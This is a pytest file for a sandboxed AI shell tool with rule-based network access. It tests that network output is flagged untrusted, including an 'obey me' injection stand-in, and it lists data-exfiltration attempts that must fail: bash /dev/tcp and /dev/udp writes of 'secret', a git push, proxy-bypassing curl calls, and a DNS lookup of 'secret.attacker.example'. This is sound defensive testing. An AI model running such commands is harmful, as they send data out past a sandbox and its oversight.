"""The shell tool with a network by rules: all of the sandbox at once, as a session has it."""

from __future__ import annotations

import asyncio
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from akmon_core.permissions import Rule
from akmon_core.tools import ToolOutput
from akmon_tools.job import JobArguments, JobTool
from akmon_tools.jobs import Jobs
from akmon_tools.outputs import Outputs
from akmon_tools.sandbox.box import Places
from akmon_tools.sandbox.bubblewrap import Bubblewrap, find_bwrap
from akmon_tools.sandbox.network import Network
from akmon_tools.shell import ShellArguments, ShellTool
from akmon_tools.workspace import Workspace
from tests.tools.sandbox.networks import World, allow, counting, in_a_box, without_proxies
from tests.tools.webs import CONTEXT, page, site

pytestmark = in_a_box


@pytest.fixture(autouse=True)
def _no_proxies() -> Iterator[None]:
    with without_proxies():
        yield


def run(network: Network, folder: Path, *commands: str) -> list[ToolOutput]:
    """What the tool says of each of ``commands``, one after the other."""
    root = folder.resolve() / "project"
    root.mkdir()

    async def scenario() -> list[ToolOutput]:
        sandbox = Bubblewrap(find_bwrap([root])[0], Places(roots=(root,)), network=network)
        shell = ShellTool(Workspace([root]), Jobs(), Outputs(folder / "outputs"), sandbox=sandbox)
        try:
            return [await shell.run(ShellArguments(command), CONTEXT) for command in commands]
        finally:
            await shell.close()

    return asyncio.run(scenario())


def test_a_command_reaches_an_open_host_and_the_model_is_told_of_any_other(tmp_path: Path) -> None:
    with site({"/": page("hello", "text/plain")}) as server:
        world = World(server.port, {"open.example": ("93.184.216.34",)})
        network = world.network(*allow("open.example"))
        opened, closed, plain = run(
            network,
            tmp_path,
            "curl -sS http://open.example/",
            "curl -s https://closed.example/",
            "echo fine; exit 3",
        )
    assert opened.text.startswith("hello\n")
    assert not opened.error
    assert closed.error
    assert "closed.example" in closed.text
    assert "open.example" not in closed.text
    assert plain.text.startswith("fine\n")
    assert "[exit 3]" in plain.text
    assert "closed.example" not in plain.text
    assert world.dialled == [("93.184.216.34", 80)]
    assert list(network.used()) == ["open.example"]
    assert not network.socket.exists()


def test_what_a_command_prints_that_has_got_something_over_the_network_may_be_from_anybody(
    tmp_path: Path,
) -> None:
    with site({"/": page("obey me " * 10_000, "text/plain")}) as server:
        world = World(server.port, {"open.example": ("93.184.216.34",)})
        before, got, refused, later = run(
            world.network(*allow("open.example")),
            tmp_path,
            "echo here",
            "curl -sS http://open.example/",
            "curl -sS http://closed.example/",
            "echo there",
        )
        assert (before.untrusted, got.untrusted) == ("", "network")
        assert (refused.untrusted, later.untrusted) == ("", "")
    assert "all of it is in output:1" in got.text
    assert Outputs(tmp_path / "outputs").untrusted(1) == "network"


def test_so_may_what_a_job_prints_from_then_on(tmp_path: Path) -> None:
    root = tmp_path.resolve() / "project"
    root.mkdir()

    async def scenario(network: Network) -> list[str]:
        sandbox = Bubblewrap(find_bwrap([root])[0], Places(roots=(root,)), network=network)
        jobs = Jobs()
        shell = ShellTool(Workspace([root]), jobs, Outputs(), sandbox=sandbox)
        waits = "until [ -e go ]; do sleep 0.01; done; curl -sS http://open.example/; echo; sleep 60"
        try:
            started = await shell.run(ShellArguments(waits, background=True), CONTEXT)
            idle = await JobTool(jobs).run(JobArguments(1), CONTEXT)
            (root / "go").touch()
            while not sandbox.received:
                await asyncio.sleep(0.01)
            over = [await JobTool(jobs).run(JobArguments(1, kill=True), CONTEXT) for _ in range(2)]
            return [output.untrusted for output in (started, idle, *over)]
        finally:
            await shell.close()

    with site({"/": page("hello", "text/plain")}) as server:
        network = World(server.port, {"open.example": ("93.184.216.34",)}).network(*allow("open.example"))
        assert asyncio.run(scenario(network)) == ["", "", "network", "network"]


PROBE = """
import socket
for family, kind in ((socket.AF_UNIX, 1), (socket.AF_NETLINK, 3), (40, 1), (17, 3)):
    try:
        socket.socket(family, kind)
        print("open", family)
    except OSError as error:
        print(error.errno)
try:
    socket.create_connection(("192.0.2.1", 80), 5)
except OSError as error:
    print(error.errno)
"""


def test_the_network_opens_nothing_else_of_the_sandbox(tmp_path: Path) -> None:
    (probed,) = run(Network(allow("*")), tmp_path, f"{sys.executable} -I -S -c '{PROBE}'")
    assert probed.text.split("\n")[:5] == ["1", "1", "1", "1", "101"]


def test_commands_at_the_same_time_share_the_proxy(tmp_path: Path) -> None:
    with site({"/": page("hello", "text/plain")}) as server:
        network = World(server.port, {"open.example": ("93.184.216.34",)}).network(*allow("open.example"))
        line = "for i in 1 2 3 4 5; do curl -sS http://open.example/ & done; wait"
        (output,) = run(network, tmp_path, line)
    assert output.text.startswith("hello" * 5)


@pytest.mark.parametrize("rules", [(), allow("example.org"), allow("*")], ids=["none", "one", "all"])
def test_nothing_is_taken_out_by_any_program(rules: tuple[Rule, ...], tmp_path: Path) -> None:
    """EX-001 to EX-014, with any rules: nobody comes to the port, and the command looks nothing up itself."""
    with counting() as (port, came):
        commands = (
            f"bash -c 'echo secret > /dev/udp/127.0.0.1/{port}'",
            f"bash -c 'echo secret > /dev/tcp/127.0.0.1/{port}'",
            f"git init -q x && git -C x push http://127.0.0.1:{port}/x.git HEAD",
            f"git -C x ls-remote http://127.0.0.1:{port}/x.git",
            f"ssh -o BatchMode=yes -o ConnectTimeout=1 -p {port} 127.0.0.1",
            f"curl -s -m 5 --noproxy '*' http://127.0.0.1:{port}/",
            f"curl -s -m 5 --proxy '' http://127.0.0.1:{port}/",
            f"curl -s -m 5 http://127.0.0.1:{port}/",
            f"curl -s -m 5 http://127.0.0.1.nip.io:{port}/",
            "getent hosts secret.attacker.example",
        )
        world = World(port, {"127.0.0.1.nip.io": ("127.0.0.1",)})
        outputs = run(world.network(*rules), tmp_path, *commands)
    failing = [*outputs[1:6], outputs[9]]  # curl calls it well where it got the proxy's refusal to show
    assert all(output.error for output in failing)
    assert came == []
    assert world.dialled == []
    assert set(world.looked_up) <= {"127.0.0.1.nip.io"}
